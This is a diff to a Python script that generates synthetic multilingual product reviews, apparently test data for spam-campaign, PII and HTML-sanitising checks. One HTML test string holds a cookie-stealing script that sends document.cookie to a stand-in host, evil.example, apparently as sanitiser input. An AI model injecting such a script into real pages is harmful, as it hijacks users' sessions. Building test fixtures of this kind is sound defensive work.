@@ -40,24 +40,87 @@ PRODUCTS = {
     "airfryer-05": ("air fryer", "エアフライヤー"), "ricecooker-06": ("rice cooker", "炊飯器"),
     "mixer-07": ("stand mixer", "スタンドミキサー"), "scale-08": ("kitchen scale", "キッチンスケール"),
 }
-EN_POS = ["Heats up fast and the {p} looks great on the counter.", "I use this {p} every morning and it has not let me down.",
-          "Solid build, easy to clean, and the controls make sense.", "Much quieter than my old {p}.",
-          "Great value for the price, would buy again.", "Setup took two minutes and it worked perfectly.",
-          "My partner loves it too; we gave one to my parents.", "The handle stays cool and the lid closes firmly."]
-EN_NEG = ["The {p} stopped working after three weeks.", "It leaks from the base every time I use it.",
-          "Customer service never answered my emails about the broken switch.", "Far too loud, I can't use it early in the morning.",
-          "The plastic smell never went away, even after ten uses.", "Arrived with a cracked lid and the replacement took a month.",
-          "The timer is inaccurate by several minutes.", "Cheap materials; the button fell off in the first week.",
-          "Do not buy this {p}. It burned out and nearly tripped the breaker.", "Returned it. It does not do what the listing promises."]
-EN_MIX = ["Works fine, but the cord is too short.", "Good {p} overall, though the manual is confusing.",
-          "Does the job. Nothing special, nothing terrible.", "Nice design, average performance."]
+# Honest reviews are written from slot-filled templates so that no two are near-duplicates by
+# accident (the near-duplicate detector must not see honest reviewers as a campaign).
+EN_SLOTS = {
+    "who": ["my wife", "my husband", "my roommate", "my dad", "my daughter", "our office", "my partner",
+            "my grandmother", "the whole family", "my sister", "a colleague", "our neighbour"],
+    "when": ["every morning", "on weekends", "twice a day", "before work", "for our Sunday brunch",
+             "most evenings", "during the holidays", "after the gym", "for meal prep", "when guests visit"],
+    "time": ["two days", "three weeks", "a month", "six weeks", "ten days", "four months", "a fortnight",
+             "half a year", "the first week", "nine days"],
+    "part": ["lid", "switch", "base", "handle", "cord", "display", "seal", "button", "hinge", "filter",
+             "power light", "dial", "plug", "bowl", "blade"],
+    "adj": ["sturdy", "compact", "handsome", "well made", "simple", "quiet", "quick", "reliable", "sleek",
+            "solid", "practical", "lightweight"],
+    "num": ["2", "3", "4", "5", "6", "7", "8", "10", "12", "15"],
+    "cmp": ["my old one", "the model it replaced", "the one at my parents' house", "the cheaper brand",
+            "what I expected", "the store display", "my previous {p}"],
+}
+EN_POS = ["Bought it for {who} and we use the {p} {when}.", "It is {adj} and {adj2}, much better than {cmp}.",
+          "After {time} of daily use the {p} still works like new.", "The {part} feels {adj} and easy to clean.",
+          "Heats up in about {num} minutes, which is perfect {when}.", "{who_cap} was impressed by how {adj} it is.",
+          "Setup took {num} minutes and the instructions were clear.", "Honestly the best {p} I have had in {num} years.",
+          "I like that the {part} is {adj}; small thing but it matters.", "Arrived {num} days early and well packed."]
+EN_NEG = ["The {p} stopped working after {time}.", "The {part} cracked after {time} and support never replied.",
+          "It leaks around the {part} every time {who} uses it.", "Far too loud for use {when}.",
+          "Worse than {cmp}; the {part} feels flimsy.", "The {part} broke after {time}, and the replacement took {num} weeks.",
+          "Burned out after {num} uses and smelled of plastic.", "The {part} gets dangerously hot within {num} minutes.",
+          "Returned it after {time}: it does not do what the listing promises.",
+          "Customer service sent {num} form emails and no fix for the {part}."]
+EN_MIX = ["It works, but the {part} is not as {adj} as I hoped.", "Fine {when}, though the {part} is awkward.",
+          "Does the job; {who} likes it more than I do.", "Good value, but the {part} wobbled after {time}."]
+EN_EXTRA = ["We keep it in the {place} next to the {thing}.", "I mostly use it for {food}.",
+            "Ordered the {colour} one on a {day} and it came on {day2}.", "I compared it with {num} other models first.",
+            "{who_cap} found it on sale for {num}0 dollars off.", "This is our {nth} {p} since we moved to {city}.",
+            "The box said {num} year warranty, we will see.", "It fits nicely under the {thing}.",
+            "We make {food} with it about {num} times a week.", "Picked it because a friend in {city} recommended it.",
+            "The {colour} finish matches the {thing}.", "First used it for {food} on {day}.",
+            "Our {place} is small, so size mattered.", "Gave the old one to {who} in {city}."]
+EN_SLOTS.update({
+    "place": ["kitchen", "studio flat", "office kitchenette", "cabin", "dorm room", "garage", "camper van", "break room"],
+    "thing": ["toaster", "window", "fridge", "spice rack", "microwave", "sink", "cupboard", "bread bin", "fruit bowl"],
+    "food": ["oatmeal", "green tea", "smoothies", "pancakes", "soup", "rice", "espresso", "bread dough", "hot chocolate", "salsa"],
+    "colour": ["black", "white", "red", "steel", "mint", "grey", "cream", "navy"],
+    "day": ["Monday", "Tuesday", "Wednesday", "Thursday", "Friday", "Saturday", "Sunday"],
+    "day2": ["Monday", "Tuesday", "Wednesday", "Thursday", "Friday", "Saturday", "Sunday"],
+    "nth": ["first", "second", "third", "fourth"],
+    "city": ["Leeds", "Austin", "Denver", "Porto", "Dublin", "Osaka", "Busan", "Calgary", "Perth", "Lyon", "Boise"],
+})
 EN_TITLES_POS = ["Love it", "Great {p}", "Exactly what I needed", "Five stars", "Very happy"]
 EN_TITLES_NEG = ["Disappointed", "Broke quickly", "Not worth it", "Avoid", "Terrible {p}"]
-JA_POS = ["{p}は毎朝使っています。とても便利です。", "デザインがかわいくて、音も静かです。", "値段の割に品質が良いと思います。",
-          "すぐに届きました。また買いたいです。", "使い方が簡単で、母にもプレゼントしました。"]
-JA_NEG = ["{p}が三週間で壊れました。残念です。", "においがずっと取れません。返品しました。", "音が大きすぎて夜は使えません。",
-          "フタが割れた状態で届きました。対応も遅かったです。", "説明書がわかりにくく、結局使えませんでした。"]
-JA_MIX = ["悪くはないですが、コードが短いです。", "普通に使えます。特に不満はありません。"]
+JA_SLOTS = {"who": ["家族", "夫", "妻", "母", "娘", "同僚", "友人", "祖父", "息子", "姉", "隣の人", "子ども"],
+            "when": ["毎朝", "週末", "夜", "休日", "朝晩", "仕事の前", "昼休み", "来客のとき", "寝る前"],
+            "num": ["2", "3", "5", "7", "10", "14", "20", "30"],
+            "part": ["フタ", "スイッチ", "取っ手", "コード", "ボタン", "表示", "パッキン", "電源ランプ", "ダイヤル", "容器"],
+            "adj": ["静か", "丈夫", "便利", "おしゃれ", "コンパクト", "軽い", "シンプル", "頑丈"],
+            "place": ["台所", "会社", "実家", "寮", "別荘", "キャンプ場", "事務所"],
+            "food": ["パン", "スープ", "コーヒー", "お茶", "ご飯", "ジュース", "お菓子", "野菜"]}
+JA_EXTRA = ["{place}で使うために買いました。", "主に{food}を作るのに使っています。", "色は白を選びました。",
+            "{who}と相談して決めました。", "ポイントが{num}倍の日に注文しました。", "箱は少しへこんでいました。",
+            "{food}がおいしくできると評判です。", "{place}にもう一台置きたいです。", "サイズは思ったより大きかったです。",
+            "前から気になっていた商品です。", "セールで{num}割引でした。", "{when}に{food}を用意するのが日課です。"]
+JA_POS = ["{p}は{when}使っています。{adj}で気に入っています。", "{who}にも好評で、{num}日使っても問題ありません。",
+          "{part}が{adj}で、値段の割に品質が良いと思います。", "{num}日で届きました。{who}へのプレゼントにもしました。",
+          "以前のものより{adj}です。{when}の準備が楽になりました。"]
+JA_NEG = ["{p}が{num}日で壊れました。{part}が動きません。", "{part}のにおいが{num}日たっても取れません。",
+          "音が大きすぎて{when}は使えません。{who}も困っています。", "{part}が割れた状態で届き、対応に{num}日かかりました。",
+          "説明書がわかりにくく、{part}の使い方が{num}回読んでもわかりませんでした。"]
+JA_MIX = ["悪くはないですが、{part}がもう少し{adj}ならいいです。", "{when}使う分には普通です。{who}は満足しています。"]
+
+
+def fill(template: str, rng: random.Random, slots: dict, **fixed) -> str:
+    values = {k: rng.choice(v) for k, v in slots.items()}
+    values.update(fixed)
+    if "adj" in values:
+        values["adj2"] = rng.choice([a for a in slots["adj"] if a != values["adj"]])
+    if "who" in values:
+        values["who_cap"] = values["who"][:1].upper() + values["who"][1:]
+    values["cmp"] = values.get("cmp", "").replace("{p}", fixed.get("p", ""))
+    values["nth"] = values.get("nth", "")
+    return template.format(**values)
+
+
 CAMPAIGN_EN = ("This is hands down the best {p} I have ever owned! Amazing quality, super fast shipping, and the "
                "seller is so helpful. Everyone in my family wants one now. Highly recommend to anyone looking "
                "for a reliable {p}, you will not regret it!")
@@ -66,13 +129,15 @@ CAMPAIGN_JA = "本当に最高の商品です！品質も素晴らしく、配�
 REPEATER_EN = ("Bought this for my kitchen remodel and it exceeded every expectation. Five stars from me, the best "
                "purchase of the year without a doubt.")
 PII_TEXTS = [
-    ("en", "Broke in a week. Seller, call me at (415) 555-2671 or write to jane.doe@example.com about the refund."),
-    ("en", "Great {p}! If you want mine, I'm at 1600 Pennsylvania Avenue, Apt 4, just stop by."),
-    ("en", "Charged twice to my card 4111 1111 1111 1111, still waiting for the refund. The {p} itself is fine."),
-    ("ko", "환불 문의 010-1234-5678 로 연락 주세요. 제품은 별로였습니다."),
-    ("ko", "서울시 강남구 테헤란로 123 으로 반품 보냈는데 아직 처리가 안 됐어요."),
-    ("ja", "〒150-0001 東京都渋谷区神宮前1丁目2-3 まで交換品を送ってください。"),
+    ("en", "Seller, call me at (415) 555-{d4} or write to {name}@example.com about the refund."),
+    ("en", "If you want mine, I'm at {n3} Pennsylvania Avenue, Apt {d1}, just stop by."),
+    ("en", "Charged twice to my card 4111 1111 1111 1111, still waiting for the refund."),
+    ("ko", "환불 문의 010-{d4}-{d4b} 로 연락 주세요."),
+    ("ko", "서울시 강남구 테헤란로 {n3} 으로 반품 보냈는데 아직 처리가 안 됐어요."),
+    ("ja", "〒150-0001 東京都渋谷区神宮前{d1}丁目{d1}-{d1} まで交換品を送ってください。"),
 ]
+KO_FILLER = ["배송은 빨랐어요.", "두 번째 구매입니다.", "선물용으로 샀어요.", "색상이 예뻐요.", "소음이 좀 있어요.",
+             "포장이 꼼꼼했어요.", "가격 대비 괜찮아요.", "사용법이 간단해요.", "부모님 댁에 보냈어요.", "생각보다 커요."]
 HTML_TEXTS = [
     "<p>Really <b>good</b> {p}.</p><p>Second paragraph&nbsp;here.</p>",
     "Nice {p} <script>document.location='https://evil.example/?c='+document.cookie</script>",
@@ -127,8 +192,10 @@ def english(s: Sample, n: int) -> list:
         elif kind == "neg":
             rating, pool, titles = s.rng.choice([1, 1, 1.5, 2, 2.5]), EN_NEG, EN_TITLES_NEG
         else:
-            rating, pool, titles = s.rng.choice([3, 3.5]), EN_MIX + EN_POS[:2] + EN_NEG[:2], ["OK", "Mixed feelings"]
-        body = " ".join(x.format(p=p) for x in s.rng.sample(pool, s.rng.randint(1, 3)))
+            rating, pool, titles = s.rng.choice([3, 3.5]), EN_MIX + EN_POS[:3] + EN_NEG[:3], ["OK", "Mixed feelings"]
+        parts = s.rng.sample(pool, s.rng.randint(1, 3)) + s.rng.sample(EN_EXTRA, s.rng.randint(1, 2))
+        s.rng.shuffle(parts)
+        body = " ".join(fill(x, s.rng, EN_SLOTS, p=p) for x in parts)
         rec = s.review("en", pid, f"user-{s.rng.randrange(100000):05d}", rating, body,
                        title=s.rng.choice(titles).format(p=p) if s.rng.random() < 0.7 else None,
                        language="en" if s.rng.random() < 0.5 else None,
@@ -148,7 +215,9 @@ def japanese(s: Sample, n: int) -> list:
         kind = s.rng.choices(["pos", "neg", "mix"], weights=[5, 3, 2])[0]
         pool, rating = {"pos": (JA_POS, s.rng.choice([4, 5])), "neg": (JA_NEG, s.rng.choice([1, 2])),
                         "mix": (JA_MIX, 3)}[kind]
-        body = "".join(x.format(p=p) for x in s.rng.sample(pool, min(len(pool), s.rng.randint(1, 2))))
+        parts = s.rng.sample(pool, min(len(pool), s.rng.randint(1, 2))) + s.rng.sample(JA_EXTRA, s.rng.randint(2, 3))
+        s.rng.shuffle(parts)
+        body = "".join(fill(x, s.rng, JA_SLOTS, p=p) for x in parts)
         rec = s.review("ja", pid, f"jp-{s.rng.randrange(100000):05d}", rating, body,
                        language="ja" if s.rng.random() < 0.3 else None,
                        verified_purchase=s.rng.random() < 0.5, source={"channel": "on_site"})
@@ -244,8 +313,18 @@ def pii_and_html(s: Sample) -> None:
     for i in range(24):
         lang, text = PII_TEXTS[i % len(PII_TEXTS)]
         pid = s.rng.choice(list(PRODUCTS))
-        s.add(s.review("pii", pid, f"user-{s.rng.randrange(100000):05d}", s.rng.choice([1, 2, 4]),
-                       text.format(p=PRODUCTS[pid][0]), language=lang))
+        text = text.format(d4=f"{s.rng.randrange(10000):04d}", d4b=f"{s.rng.randrange(10000):04d}",
+                           n3=s.rng.randrange(100, 999), d1=s.rng.randrange(1, 9),
+                           name=s.rng.choice(["jane.doe", "kim.lee", "sam_r", "pat.o", "alex99"]))
+        if lang == "en":  # each reviewer writes their own text around the personal data
+            parts = [fill(x, s.rng, EN_SLOTS, p=PRODUCTS[pid][0]) for x in s.rng.sample(EN_NEG + EN_POS, 1) + s.rng.sample(EN_EXTRA, 2)]
+        elif lang == "ja":
+            parts = [fill(x, s.rng, JA_SLOTS, p=PRODUCTS[pid][1]) for x in s.rng.sample(JA_EXTRA, 3)]
+        else:
+            parts = s.rng.sample(KO_FILLER, 3)
+        text = " ".join(parts[:1] + [text] + parts[1:])
+        s.add(s.review("pii", pid, f"user-{s.rng.randrange(100000):05d}", s.rng.choice([1, 2, 4]), text,
+                       language=lang))
     for i in range(20):
         pid = s.rng.choice(list(PRODUCTS))
         s.add(s.review("html", pid, f"user-{s.rng.randrange(100000):05d}", s.rng.choice([2, 3, 5]),
